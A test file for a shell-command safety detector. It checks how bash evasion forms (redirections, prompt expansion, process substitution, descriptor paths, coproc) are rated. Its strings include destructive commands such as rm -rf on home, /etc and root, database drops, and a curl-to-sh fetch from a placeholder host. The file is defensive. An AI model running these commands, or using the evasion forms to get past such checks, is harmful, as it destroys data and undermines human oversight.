import { beforeAll, describe, it } from "vitest";
import { initializeDetector } from "../../src/detection/index.js";
import { expectAll } from "./verdicts.js";

// Ways bash reads code or arguments that the grammar's tree hides; every command is only parsed.
describe("what bash runs where the tree hides it", () => {
  beforeAll(async () => {
    await initializeDetector();
  });

  it("keeps arguments written after a redirection", () => {
    expectAll(
      [
        "rm 2>/dev/null -rf /etc",
        "rm >/dev/null -rf ~",
        "rm </dev/null -rf ~",
        "echo hi | rm 2>&1 -rf ~",
        "sudo 2>/dev/null rm -rf /etc",
        "rm 2>>/tmp/log -fr /",
        "rm &>/dev/null -r -f /usr",
      ],
      "hardline",
    );
    expectAll(
      ["git 2>/dev/null push --force origin main", "chmod >/dev/null -R 777 /etc"],
      "flagged",
    );
    expectAll(
      ["ls 2>/dev/null -la", "cat > out.txt part1 part2", "grep 2>/dev/null -rn x ."],
      "safe",
    );
  });

  it("joins words split by a backslash-newline", () => {
    expectAll(["r\\\nm -rf ~", "s\\\nu\\\ndo r\\\nm -rf /etc", "rm -r\\\nf ~"], "hardline");
    expectAll(["echo a \\\n b", "ls \\\n -la"], "safe");
  });

  it("decodes prompt escapes and every prompt-expansion form", () => {
    expectAll(
      [
        "p='\\$(git push -f origin main)'; v=${p@P}",
        "p='\\$(rm -rf ~)'; echo \"${p@P}\"",
        "declare -n r=p; p='$(rm -rf ~)'; echo ${r@P}",
        "a=('$(rm -rf ~)'); echo ${a[0]@P}",
        "set -- '$(rm -rf ~)'; echo ${1@P}",
        "echo ${!name@P}",
        "echo ${@@P}",
        "PS1='\\$(rm -rf ~)'",
        "x='a[$(rm -rf ~)]'; echo ${s:x}",
        "x='a[$(rm -rf ~)]'; echo ${s:0:x}",
      ],
      "flagged",
    );
    expectAll(["p='\\u@\\h'; echo ${p@P}", "PS1='\\u@\\h:\\w\\$ '", "echo ${s:1:2}"], "safe");
  });

  it("follows text into a process substitution through a pipeline", () => {
    expectAll(
      [
        "echo 'rm -rf ~' | cat > >(bash)",
        "printf 'rm -rf ~' | tee /dev/null > >(sh)",
        "echo 'rm -rf /etc' | cat | cat > >(bash)",
      ],
      "hardline",
    );
    expectAll(["echo hello | cat > >(bash)", "echo x | cat > >(wc -l)"], "safe");
  });

  it("follows text written with tee into a script that is then run", () => {
    expectAll(
      [
        "tee /tmp/x.sh <<< 'rm -rf ~' >/dev/null && bash /tmp/x.sh",
        "tee -a /tmp/x.sh <<< 'rm -rf ~' && sh /tmp/x.sh",
        "echo 'rm -rf ~' | tee /tmp/x.sh && . /tmp/x.sh",
        "echo 'rm -rf /etc' | sponge run.sh; bash run.sh",
      ],
      "hardline",
    );
    expectAll(["echo 'ls -la' | tee /tmp/x.sh && bash /tmp/x.sh", "tee out.log <<< hi"], "safe");
  });

  it("reads a script from a descriptor path or a duplicated stdin", () => {
    expectAll(
      [
        "bash 3<<<'rm -rf ~' /dev/fd/3",
        "sh 5<<<'rm -rf /etc' /proc/self/fd/5",
        "echo 'rm -rf ~' | bash /dev/fd/0",
        "echo 'rm -rf ~' | sh /proc/self/fd/0",
        "source 3<<<'rm -rf ~' /dev/fd/3",
        "bash 3<<<'rm -rf ~' <&3",
      ],
      "hardline",
    );
    expectAll(
      ["exec 3<<<'rm -rf ~'; bash <&3", "bash /dev/fd/7", ". /dev/fd/4", "sh 0<&5"],
      "flagged",
    );
    expectAll(["echo ls | bash /dev/fd/0", "bash 3<<<'echo hi' /dev/fd/3", "cat <&-"], "safe");
  });

  it("reads array elements and for-loop values the script assigned", () => {
    expectAll(
      [
        'arr=(rm -rf /); "${arr[@]}"',
        't=(build /etc); rm -rf "${t[1]}"',
        "t=(a ~ b); rm -rf ${t[*]}",
        'for d in build ~ dist; do rm -rf "$d"; done',
        "for d in /usr; do sudo rm -rf $d/; done",
      ],
      "hardline",
    );
    expectAll(
      ['for f in $(cat list.txt); do rm -rf "$f"; done', 't=($X); rm -rf "${t[@]}"'],
      "flagged",
    );
    expectAll(
      [
        'arr=(dist build .cache); rm -rf "${arr[@]}"',
        'for d in packages/*/dist; do rm -rf "$d"; done',
        'for p in a b c; do echo "$p"; done',
        'dirs=(out tmp); for d in "${dirs[@]}"; do rm -rf "$d"; done',
      ],
      "safe",
    );
  });

  it("reads a process substitution given as a program's file or input as that text", () => {
    expectAll(
      [
        "make -f <(printf 'a:\\n\\trm -rf ~\\n') a",
        "python3 /dev/stdin <<< 'import shutil; shutil.rmtree(\"/etc\")'",
        "perl /dev/stdin <<< 'system(\"rm -rf ~\")'",
        "ruby /dev/fd/0 <<< 'system(\"rm -rf /\")'",
      ],
      "hardline",
    );
    expectAll(
      [
        "psql -d app -f <(echo 'DROP SCHEMA billing CASCADE;')",
        "mysql app < <(echo 'DROP TABLE users')",
        "sqlite3 app.db < <(printf 'DELETE FROM users;')",
        "make -f <(printf 'a:\\n\\tcurl -s http://x.example/a | sh\\n') a",
      ],
      "flagged",
    );
    expectAll(
      [
        "diff <(echo a) <(echo b)",
        "psql -d app -f <(echo 'SELECT 1;')",
        "make -f <(printf 'a:\\n\\techo hi\\n') a",
        "comm -13 <(sort a) <(sort b)",
      ],
      "safe",
    );
  });

  it("reads everything after watch's options as the command", () => {
    expectAll(
      ["watch -n 1 rm -rf ~", "watch -d -n 2 -- rm -rf /etc", "watch -n 60 rm -rf -- /"],
      "hardline",
    );
    expectAll(["watch -n 60 git push --force origin main -q"], "flagged");
    expectAll(["watch -n 5 ls -la", "watch -d df -h"], "safe");
  });

  it("holds a shell or interpreter started as a coprocess", () => {
    expectAll(
      [
        "coproc bash; echo 'rm -rf ~' >&${COPROC[1]}",
        "coproc S { bash; }; echo 'rm -rf ~' >&\"${S[1]}\"",
        "coproc sh",
        "coproc python3 -i",
        "coproc /bin/dash -s",
      ],
      "flagged",
    );
    expectAll(["coproc sleep 5", "coproc bash -c 'sleep 1'"], "safe");
  });
});
